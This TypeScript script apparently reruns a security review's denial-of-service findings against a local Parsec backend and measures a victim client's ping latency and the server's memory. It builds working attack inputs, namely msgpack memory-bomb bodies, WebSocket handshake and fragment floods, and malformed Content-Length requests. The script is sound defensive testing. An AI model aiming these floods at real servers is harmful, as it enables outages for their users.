/**
 * Replays the denial-of-service findings of the security review against a server on 127.0.0.1, while a logged-in
 * victim client pings continuously, and reports the victim's ping latency during each attack and the server's peak RSS.
 *
 *   npm run attack                              # spawns `parsec backend run --dev` (debug: `ping` registered) on a free port
 *   npm run attack -- --connections 16 --fragmented 200
 *   npm run attack -- --only finding-4          # phases whose name starts with one of these (comma-separated)
 *   npm run attack -- --server-port 6777 --server-pid 12345 [--token s3cr3t]   # an already running --dev/--debug server
 *
 * Phases, each bounded in count and time (a run stops by itself, within about two minutes):
 * - `baseline`: the victim alone;
 * - `finding-1 ws empty maps`: N (`--connections`, default 32) unauthenticated WebSockets each answer the challenge
 *   with ~1 MiB made of ~a million empty msgpack maps (0x80 inside an array32);
 * - `finding-1 ws distinct keys`: N WebSockets each answering with one map of ~170 000 distinct keys (~1 MiB);
 * - `finding-1 anonymous empty maps` / `… distinct keys`: N `POST /anonymous/<org>` with the same bodies;
 * - `finding-2 fragmented`: M (`--fragmented`, default 500) unauthenticated WebSockets each sending ~4 MiB of
 *   fragments of one binary message, never the final one (raw framing over node:net), held open, then dropped;
 *   the phase stops sending early if the server's RSS passes `--max-rss-mb` (default 3000);
 * - `finding-4 http edge cases`: raw HTTP requests (Content-Length -1, abc, 10000000000; HTTP/1.0; no Content-Type;
 *   `application/msgpack; charset=utf-8`), each reported with its status line, "no answer" or "connection dropped".
 *
 * Only 127.0.0.1 is ever contacted. Prints a table per phase and one JSON line with every figure.
 */
import { spawn, type ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { createWriteStream, mkdirSync, readFileSync } from "node:fs";
import { connect as tcpConnect, type Socket } from "node:net";
import { parseArgs } from "node:util";
import { bootstrapBenchOrganization } from "./organization.js";
import { Worker } from "node:worker_threads";
import type { VictimBatch, VictimOptions } from "./attack-victim.js";
import { unpackWire } from "../src/adapters/protocol/index.js";
import { pack } from "../src/domain/serialization/msgpack.js";
import { connectChallenged } from "../test/support/client.js";
import { freePort } from "../test/e2e/helpers.js";

const { values } = parseArgs({
  options: {
    connections: { type: "string", default: "32" },
    fragmented: { type: "string", default: "500" },
    /** Bytes of fragments each `finding-2` connection sends (default 4 MiB). */
    "fragmented-bytes": { type: "string", default: String(4 * 1024 * 1024) },
    "server-port": { type: "string" },
    "server-pid": { type: "string" },
    token: { type: "string", default: "s3cr3t" },
    only: { type: "string" },
    "max-rss-mb": { type: "string", default: "3000" },
    /** Bound on each phase, in seconds (default 25). */
    "phase-seconds": { type: "string", default: "25" },
  },
});
const HOST = "127.0.0.1";
const N = Number(values.connections);
const M = Number(values.fragmented);
const FRAGMENTED_BYTES = Number(values["fragmented-bytes"]);
const MAX_RSS_KB = Number(values["max-rss-mb"]) * 1024;
const PHASE_MS = Number(values["phase-seconds"]) * 1000;
const ONLY = values.only?.split(",").map((s) => s.trim()).filter(Boolean) ?? null;
const selected = (name: string): boolean => ONLY === null || ONLY.some((p) => name.startsWith(p));

const sleep = (ms: number) => new Promise<void>((resolve) => setTimeout(resolve, ms));
const round = (n: number, digits = 1): number => Number(n.toFixed(digits));
const percentile = (sorted: readonly number[], p: number): number => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))] ?? NaN;

// ---------------------------------------------------------------------------------------------------------------------
// Payloads

/** ~1 MiB: an array32 of 1 048 571 empty maps (0x80). */
const emptyMapsBody = (): Buffer => {
  const count = 1024 * 1024 - 5;
  const out = Buffer.alloc(5 + count, 0x80);
  out[0] = 0xdd;
  out.writeUInt32BE(count, 1);
  return out;
};

/** ~1 MiB: a map32 of 170 000 distinct short str keys, each with a nil value. */
const distinctKeysBody = (): Buffer => {
  const count = 170_000;
  const parts: Buffer[] = [Buffer.from([0xdf, 0, 0, 0, 0])];
  parts[0]!.writeUInt32BE(count, 1);
  const pairs = Buffer.allocUnsafe(count * 7);
  let pos = 0;
  for (let i = 0; i < count; i++) {
    const key = i.toString(36);
    pairs[pos++] = 0xa0 | key.length;
    pos += pairs.write(key, pos, "latin1");
    pairs[pos++] = 0xc0;
  }
  parts.push(pairs.subarray(0, pos));
  return Buffer.concat(parts);
};

// ---------------------------------------------------------------------------------------------------------------------
// Server process, RSS sampling

/** VmRSS of `pid` in KiB (Linux `/proc/<pid>/status`), or null. */
const rssKb = (pid: number | null): number | null => {
  if (pid === null) return null;
  try {
    const match = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
    return match ? Number(match[1]) : null;
  } catch {
    return null;
  }
};

/** Samples the server's RSS every 100 ms; `peakSince()` resets the current phase's peak. */
class RssSampler {
  private peak = 0;
  private overall = 0;
  private readonly timer: NodeJS.Timeout;
  constructor(private readonly pid: number | null) {
    this.timer = setInterval(() => this.sample(), 100);
  }
  /** Reads the RSS now; returns it in KiB. */
  sample(): number | null {
    const kb = rssKb(this.pid);
    if (kb !== null) (this.peak = Math.max(this.peak, kb)), (this.overall = Math.max(this.overall, kb));
    return kb;
  }
  /** The peak since the last call, in MiB, and starts a new window. */
  takePeakMb(): number | null {
    this.sample();
    const peak = this.peak;
    this.peak = rssKb(this.pid) ?? 0;
    return this.pid === null ? null : round(peak / 1024);
  }
  get overallPeakMb(): number | null {
    return this.pid === null ? null : round(this.overall / 1024);
  }
  stop(): void {
    clearInterval(this.timer);
  }
}

const waitForPort = async (port: number, deadline: number): Promise<void> => {
  while (Date.now() < deadline) {
    const ok = await new Promise<boolean>((resolve) => {
      const socket = tcpConnect(port, HOST, () => (socket.end(), resolve(true)));
      socket.once("error", () => resolve(false));
    });
    if (ok) return;
    await sleep(100);
  }
  throw new Error(`server did not listen on ${port}`);
};

// ---------------------------------------------------------------------------------------------------------------------
// The victim

/**
 * The victim: a worker thread (`bench/attack-victim.ts`) logged in on one authenticated session, pinging
 * continuously with its own event loop, so that its latencies are the server's and not this process's; its
 * latencies, failed pings included, are collected per phase.
 */
class Victim {
  private samples: number[] = [];
  private failures = 0;
  lost: string | null = null;
  private readonly worker: Worker;
  private readonly stopped: Promise<void>;
  /** Resolves once the worker is logged in. */
  readonly ready: Promise<void>;
  constructor(options: VictimOptions) {
    const bootstrap = `import("tsx/esm/api").then(({ register }) => { register(); return import(${JSON.stringify(new URL("./attack-victim.ts", import.meta.url).href)}); })`;
    this.worker = new Worker(bootstrap, { eval: true, workerData: options });
    let ready!: () => void;
    let fail!: (err: Error) => void;
    this.ready = new Promise<void>((resolve, reject) => ((ready = resolve), (fail = reject)));
    let stopped!: () => void;
    this.stopped = new Promise<void>((resolve) => (stopped = resolve));
    this.worker.on("message", (message: VictimBatch | "ready" | "stopped") => {
      if (message === "ready") return ready();
      if (message === "stopped") return stopped();
      this.samples.push(...message.latenciesMs);
      this.failures += message.failures;
      if (message.lost) this.lost = message.lost;
    });
    this.worker.once("error", (err) => fail(err));
    this.worker.once("exit", () => stopped());
  }
  /** The figures since the last call, and a new window. */
  take(): { pings: number; p50Ms: number; p99Ms: number; maxMs: number; failures: number } {
    const sorted = this.samples.sort((a, b) => a - b);
    const figures = { pings: sorted.length, p50Ms: round(percentile(sorted, 50), 2), p99Ms: round(percentile(sorted, 99), 2), maxMs: round(sorted[sorted.length - 1] ?? NaN, 2), failures: this.failures };
    this.samples = [];
    this.failures = 0;
    return figures;
  }
  async stop(): Promise<void> {
    this.worker.postMessage("stop");
    await Promise.race([this.stopped, sleep(12_000)]);
    await this.worker.terminate();
  }
}

// ---------------------------------------------------------------------------------------------------------------------
// Attacks

/** Tally of how connections or requests ended: e.g. `{"result bad_protocol": 32}`. */
type Tally = Record<string, number>;
const count = (tally: Tally, key: string): void => void (tally[key] = (tally[key] ?? 0) + 1);

/** N unauthenticated WebSockets answer the challenge with `body`; each waits for the result frame or the close. */
const wsHandshakeFlood = async (port: number, body: Buffer): Promise<{ outcomes: Tally; answerP50Ms: number; answerMaxMs: number }> => {
  const outcomes: Tally = {};
  const times: number[] = [];
  const connections = await Promise.all(
    Array.from({ length: N }, () => connectChallenged({ url: `ws://${HOST}:${port}/ws`, timeoutMs: PHASE_MS }).catch((err: Error) => err)),
  );
  await Promise.all(
    connections.map(async (c) => {
      if (c instanceof Error) return count(outcomes, `connect failed: ${c.message.slice(0, 60)}`);
      const t0 = performance.now();
      try {
        c.channel.send(body);
        const frame = await c.channel.next(PHASE_MS);
        times.push(performance.now() - t0);
        if (typeof frame === "string") count(outcomes, "text frame");
        else {
          const decoded = unpackWire(frame) as Record<string, unknown> | null;
          count(outcomes, `result ${String(decoded?.["result"] ?? "?")}`);
        }
      } catch (err) {
        times.push(performance.now() - t0);
        count(outcomes, c.channel.isClosed ? `closed ${(await c.channel.closed).code}` : `no answer (${(err as Error).message.slice(0, 40)})`);
      } finally {
        await Promise.race([c.channel.close(), sleep(2_000)]);
      }
    }),
  );
  times.sort((a, b) => a - b);
  return { outcomes, answerP50Ms: round(percentile(times, 50)), answerMaxMs: round(times[times.length - 1] ?? NaN) };
};

/** N concurrent `POST /anonymous/<org>` with `body`. */
const anonymousFlood = async (port: number, organizationId: string, body: Buffer): Promise<{ outcomes: Tally; answerP50Ms: number; answerMaxMs: number }> => {
  const outcomes: Tally = {};
  const times: number[] = [];
  await Promise.all(
    Array.from({ length: N }, async () => {
      const t0 = performance.now();
      try {
        const response = await fetch(`http://${HOST}:${port}/anonymous/${organizationId}`, {
          method: "POST",
          headers: { "content-type": "application/msgpack" },
          body,
          signal: AbortSignal.timeout(PHASE_MS),
        });
        const reply = Buffer.from(await response.arrayBuffer());
        const msgpack = response.headers.get("content-type")?.startsWith("application/msgpack") === true;
        const detail =
          reply.length === 0 ? "" : msgpack ? ` status ${String((unpackWire(reply) as Record<string, unknown> | null)?.["status"] ?? "?")}` : ` ${reply.toString("utf8").trim().slice(0, 60)}`;
        count(outcomes, `HTTP ${response.status}${detail}`);
      } catch (err) {
        // EPIPE/ECONNRESET: the server answered and closed before the whole body was sent.
        count(outcomes, `failed: ${((err as Error).cause as Error | undefined)?.message ?? (err as Error).message}`.slice(0, 80));
      }
      times.push(performance.now() - t0);
    }),
  );
  times.sort((a, b) => a - b);
  return { outcomes, answerP50Ms: round(percentile(times, 50)), answerMaxMs: round(times[times.length - 1] ?? NaN) };
};

/** A raw WebSocket upgrade over node:net; resolves once the server answered 101 (or rejects). */
const rawWebSocket = (port: number): Promise<Socket> =>
  new Promise((resolve, reject) => {
    const socket = tcpConnect(port, HOST);
    const timer = setTimeout(() => (socket.destroy(), reject(new Error("upgrade timeout"))), PHASE_MS);
    let head = "";
    socket.once("connect", () =>
      socket.write(
        `GET /ws HTTP/1.1\r\nHost: ${HOST}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${randomBytes(16).toString("base64")}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
      ),
    );
    const onData = (chunk: Buffer) => {
      head += chunk.toString("latin1");
      if (!head.includes("\r\n\r\n")) return;
      socket.off("data", onData);
      socket.on("data", () => undefined); // the challenge and anything else the server sends
      clearTimeout(timer);
      if (head.startsWith("HTTP/1.1 101")) resolve(socket);
      else (socket.destroy(), reject(new Error(head.split("\r\n")[0])));
    };
    socket.on("data", onData);
    socket.once("error", (err) => (clearTimeout(timer), reject(err)));
  });

/** A client→server frame header (masked, mask key 0 so the payload goes as is) of `length` payload bytes. */
const frameHeader = (opcode: number, fin: boolean, length: number): Buffer => {
  const first = (fin ? 0x80 : 0) | opcode;
  if (length < 126) return Buffer.from([first, 0x80 | length, 0, 0, 0, 0]);
  if (length <= 0xffff) {
    const h = Buffer.from([first, 0x80 | 126, 0, 0, 0, 0, 0, 0]);
    h.writeUInt16BE(length, 2);
    return h;
  }
  const h = Buffer.alloc(14);
  h[0] = first;
  h[1] = 0x80 | 127;
  h.writeBigUInt64BE(BigInt(length), 2);
  return h;
};

/**
 * M raw WebSockets each send `FRAGMENTED_BYTES` of fragments (64 KiB each: one binary frame without FIN, then
 * continuation frames without FIN), never finishing the message; held open 5 s once sent, then destroyed.
 */
const fragmentedFlood = async (port: number, rss: RssSampler): Promise<{ outcomes: Tally; sentMiB: number; stoppedEarly: string | null }> => {
  const outcomes: Tally = {};
  const chunk = Buffer.alloc(64 * 1024, 0x80);
  const first = Buffer.concat([frameHeader(0x2, false, chunk.length), chunk]);
  const continuation = Buffer.concat([frameHeader(0x0, false, chunk.length), chunk]);
  const fragments = Math.max(1, Math.floor(FRAGMENTED_BYTES / chunk.length));
  const deadline = Date.now() + PHASE_MS;
  let stoppedEarly: string | null = null;
  let sent = 0;
  const sockets: Socket[] = [];
  const closedEarly = new Set<Socket>();
  // Opened 50 at a time, so that the upgrade of the last ones does not time out behind the first ones' data.
  for (let i = 0; i < M && Date.now() < deadline; i += 50) {
    const batch = await Promise.all(Array.from({ length: Math.min(50, M - i) }, () => rawWebSocket(port).catch((err: Error) => err)));
    for (const s of batch) {
      if (s instanceof Error) count(outcomes, `upgrade failed: ${s.message.slice(0, 60)}`);
      else {
        sockets.push(s);
        s.once("close", () => closedEarly.add(s));
        s.on("error", () => undefined);
      }
    }
  }
  const sendAll = async (socket: Socket): Promise<void> => {
    for (let f = 0; f < fragments; f++) {
      if (closedEarly.has(socket) || stoppedEarly !== null || Date.now() > deadline) return;
      const ok = socket.write(f === 0 ? first : continuation);
      sent += chunk.length;
      if (!ok) await new Promise<void>((resolve) => (socket.once("drain", resolve), socket.once("close", resolve), setTimeout(resolve, 1_000)));
    }
  };
  const guard = setInterval(() => {
    const kb = rss.sample();
    if (kb !== null && kb > MAX_RSS_KB && stoppedEarly === null) stoppedEarly = `server RSS ${round(kb / 1024)} MiB > --max-rss-mb`;
  }, 100);
  await Promise.all(sockets.map(sendAll));
  if (stoppedEarly === null && Date.now() > deadline) stoppedEarly = `phase time bound (${PHASE_MS / 1000} s) reached`;
  await sleep(5_000);
  clearInterval(guard);
  for (const s of sockets) count(outcomes, closedEarly.has(s) ? "closed by the server" : "still open after sending");
  for (const s of sockets) s.destroy();
  return { outcomes, sentMiB: round(sent / 1024 / 1024), stoppedEarly };
};

/** Sends `request` on a fresh TCP connection and reports the first line of the answer within 5 s. */
const rawHttp = (port: number, request: Buffer): Promise<string> =>
  new Promise((resolve) => {
    const socket = tcpConnect(port, HOST);
    let answer = "";
    let settled = false;
    const done = (what: string) => {
      if (settled) return;
      settled = true;
      clearTimeout(timer);
      socket.destroy();
      resolve(what);
    };
    const timer = setTimeout(() => done(answer ? answer.split("\r\n")[0]! : "no answer (5 s)"), 5_000);
    socket.once("connect", () => socket.write(request));
    socket.on("data", (chunk) => {
      answer += chunk.toString("latin1");
      if (answer.includes("\r\n")) done(answer.split("\r\n")[0]!);
    });
    socket.once("close", () => done(answer ? answer.split("\r\n")[0]! : "connection dropped"));
    socket.once("error", (err) => done(`connection dropped (${err.message})`));
  });

const httpEdgeCases = async (port: number, organizationId: string): Promise<Record<string, string>> => {
  const body = pack({ cmd: "organization_bootstrap" });
  const path = `/anonymous/${organizationId}`;
  const post = (headers: string, version = "1.1", payload: Buffer = body) =>
    Buffer.concat([Buffer.from(`POST ${path} HTTP/${version}\r\nHost: ${HOST}:${port}\r\n${headers}\r\n`, "latin1"), payload]);
  const cases: Record<string, Buffer> = {
    "reference: Content-Type application/msgpack, right Content-Length": post(`Content-Type: application/msgpack\r\nContent-Length: ${body.length}\r\n`),
    "Content-Length: -1": post("Content-Type: application/msgpack\r\nContent-Length: -1\r\n"),
    "Content-Length: abc": post("Content-Type: application/msgpack\r\nContent-Length: abc\r\n"),
    "Content-Length: 10000000000": post("Content-Type: application/msgpack\r\nContent-Length: 10000000000\r\n"),
    "HTTP/1.0 request": post(`Content-Type: application/msgpack\r\nContent-Length: ${body.length}\r\n`, "1.0"),
    "no Content-Type": post(`Content-Length: ${body.length}\r\n`),
    "Content-Type: application/msgpack; charset=utf-8": post(`Content-Type: application/msgpack; charset=utf-8\r\nContent-Length: ${body.length}\r\n`),
  };
  const entries = await Promise.all(Object.entries(cases).map(async ([name, request]) => [name, await rawHttp(port, request)] as const));
  return Object.fromEntries(entries);
};

// ---------------------------------------------------------------------------------------------------------------------

interface PhaseFigures {
  phase: string;
  startedAt: string;
  seconds: number;
  victim: ReturnType<Victim["take"]>;
  serverPeakRssMiB: number | null;
  result: unknown;
}

const main = async (): Promise<void> => {
  const external = values["server-port"] !== undefined;
  const port = external ? Number(values["server-port"]) : await freePort();
  let server: ChildProcess | null = null;
  let serverExit: string | null = null;
  if (!external) {
    mkdirSync(".tmp", { recursive: true });
    const log = createWriteStream(".tmp/attack-server.log");
    server = spawn(process.execPath, ["--import", "tsx", "src/bootstrap/main.ts", "backend", "run", "--dev", "-P", String(port), "-l", "WARNING"], {
      stdio: ["ignore", "pipe", "pipe"],
    });
    server.stdout!.pipe(log);
    server.stderr!.pipe(log);
    server.once("exit", (code, signal) => (serverExit = `server exited (code ${code}, signal ${signal})`));
  }
  const pid = server?.pid ?? (values["server-pid"] ? Number(values["server-pid"]) : null);
  const rss = new RssSampler(pid);
  const phases: PhaseFigures[] = [];
  let victim: Victim | null = null;
  try {
    await waitForPort(port, Date.now() + 30_000);
    const url = `http://${HOST}:${port}`;
    const { organizationId, material } = await bootstrapBenchOrganization(url, values.token, "AttackOrg");
    victim = new Victim({
      url: `ws://${HOST}:${port}/ws`,
      organizationId,
      deviceId: material.deviceId,
      signingKey: material.deviceKey.signingKey,
      rootVerifyKey: material.rootKey.verifyKey,
    });
    await victim.ready;
    const emptyMaps = emptyMapsBody();
    const distinctKeys = distinctKeysBody();
    console.error(`[attack] server on ${url} (pid ${pid ?? "unknown"}), N=${N}, M=${M}; bodies ${emptyMaps.length} and ${distinctKeys.length} bytes`);

    const phase = async (name: string, attack: () => Promise<unknown>): Promise<void> => {
      if (!selected(name) && name !== "baseline") return;
      if (serverExit) return;
      const startedAt = new Date().toISOString();
      victim!.take();
      rss.takePeakMb();
      const t0 = performance.now();
      let result: unknown;
      try {
        result = await attack();
      } catch (err) {
        result = { error: err instanceof Error ? err.message : String(err) };
      }
      await sleep(300);
      const figures: PhaseFigures = { phase: name, startedAt, seconds: round((performance.now() - t0) / 1000), victim: victim!.take(), serverPeakRssMiB: rss.takePeakMb(), result };
      if (serverExit) figures.result = { ...(figures.result as object), server: serverExit };
      phases.push(figures);
      console.error(`[attack] ${name}: ${JSON.stringify(figures)}`);
      await sleep(1_000);
    };

    await phase("baseline", () => sleep(2_000));
    await phase("finding-1 ws empty maps", () => wsHandshakeFlood(port, emptyMaps));
    await phase("finding-1 ws distinct keys", () => wsHandshakeFlood(port, distinctKeys));
    await phase("finding-1 anonymous empty maps", () => anonymousFlood(port, organizationId, emptyMaps));
    await phase("finding-1 anonymous distinct keys", () => anonymousFlood(port, organizationId, distinctKeys));
    await phase("finding-2 fragmented", () => fragmentedFlood(port, rss));
    await phase("finding-4 http edge cases", () => httpEdgeCases(port, organizationId));
  } finally {
    await victim?.stop().catch(() => undefined);
    rss.stop();
    if (server && server.exitCode === null) {
      server.kill("SIGTERM");
      const timer = setTimeout(() => server.kill("SIGKILL"), 10_000);
      await new Promise((resolve) => server.once("exit", resolve));
      clearTimeout(timer);
    }
  }
  console.table(
    phases.map((p) => ({
      phase: p.phase,
      at: p.startedAt.slice(11, 19),
      s: p.seconds,
      pings: p.victim.pings,
      "p50 ms": p.victim.p50Ms,
      "p99 ms": p.victim.p99Ms,
      "max ms": p.victim.maxMs,
      "ping failures": p.victim.failures,
      "peak RSS MiB": p.serverPeakRssMiB,
    })),
  );
  for (const p of phases) if (p.phase !== "baseline") console.log(`${p.phase}: ${JSON.stringify(p.result)}`);
  console.log(JSON.stringify({ node: process.version, connections: N, fragmented: M, fragmentedBytes: FRAGMENTED_BYTES, serverPeakRssMiB: rss.overallPeakMb, serverExit, phases }));
};

await main();
